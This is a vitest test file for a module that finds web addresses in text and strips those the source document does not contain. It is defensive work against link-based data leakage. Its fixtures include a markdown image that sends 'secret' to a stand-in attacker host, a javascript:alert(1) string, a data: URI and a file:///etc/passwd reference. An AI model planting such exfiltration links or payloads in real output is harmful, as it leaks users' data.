import { describe, expect, it } from 'vitest';
import { addressesIn, withoutForeignAddresses } from './web-addresses.js';

const NOTHING: ReadonlySet<string> = new Set();

describe('addresses in a text', () => {
  it.each([
    ['Veja https://exemplo.org/a?b=1, e depois.', ['https://exemplo.org/a?b=1']],
    ['See www.example.com/x.', ['www.example.com/x']],
    ['Em exemplo.org/lista há mais', ['exemplo.org/lista']],
    ['javascript:alert(1) data:text/html;base64,AAAA', ['javascript:alert(1', 'data:text/html;base64,AAAA']],
    ['Use Node.js/Express, e/ou km/h, 1.5/2. Fim.Outra', []],
  ])('%s', (text, found) => {
    expect([...addressesIn(text)]).toEqual(found);
  });
});

describe('addresses that the document does not have', () => {
  it.each([
    ['a picture that would carry data away', '![ok](https://evil.example/p.png?d=secret) fim', 'ok fim'],
    ['a link, whose words stay', 'Leia [o texto](https://evil.example/x).', 'Leia o texto.'],
    ['a bare address', 'Acesse https://evil.example/x, e volte.', 'Acesse , e volte.'],
    ['an address without its scheme', 'Acesse evil.example/x?d=1 agora', 'Acesse agora'],
    ['an address of another scheme', 'file:///etc/passwd e ftp://evil.example/a', 'e'],
  ])('takes out %s', (_what, text, kept) => {
    expect(withoutForeignAddresses(text, NOTHING).text).toBe(kept);
  });

  it('keeps what the document has, and all of a text without addresses', () => {
    const known = addressesIn('Veja https://exemplo.org/a.');
    expect(withoutForeignAddresses('Em https://exemplo.org/a, e em [x](https://exemplo.org/a).', known)).toEqual({ text: 'Em https://exemplo.org/a, e em [x](https://exemplo.org/a).', removed: 0 });
    expect(withoutForeignAddresses('f(x) = [a](b)  e 3:2.', NOTHING).text).toBe('f(x) = [a](b)  e 3:2.');
  });

  it('is not led astray by an address that only begins like a known one', () => {
    expect(withoutForeignAddresses('https://exemplo.org/a?d=segredo', new Set(['https://exemplo.org/a'])).removed).toBe(1);
  });
});
